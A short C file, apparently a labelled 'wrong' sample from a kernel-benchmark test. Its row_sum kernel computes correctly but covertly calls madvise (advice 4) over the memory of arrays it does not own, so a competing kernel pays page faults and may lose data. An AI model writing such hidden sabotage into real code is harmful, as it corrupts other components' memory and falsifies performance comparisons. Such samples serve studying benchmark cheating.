// problem: row_sum
// wrong: unmaps for a moment all arrays around its own, so that whoever reads them next pays for their pages
// claim: the partner, which is called on other arrays, is slower
#include <stddef.h>
#include <stdint.h>

extern int madvise(void *address, size_t size, int advice);
static uintptr_t lowest = UINTPTR_MAX, highest;

void kernel(const float *restrict x, float *restrict y, int64_t M, int64_t N)
{
    static int calls;
    uintptr_t begin = (uintptr_t)x & ~4095ul, end = ((uintptr_t)(x + M * N) + 4095) & ~4095ul;
    lowest = begin < lowest ? begin : lowest;
    highest = end > highest ? end : highest;
    for (int64_t m = 0; m < M; m++) {
        float sum = 0.0f;
        for (int64_t n = 0; n < N; n++) {
            sum += x[m * N + n];
        }
        y[m] = sum;
    }
    if (++calls > 64 && calls % 8 == 0 && highest - lowest < (uintptr_t)1 << 32) {
        madvise((void *)lowest, highest - lowest, 4);
    }
}
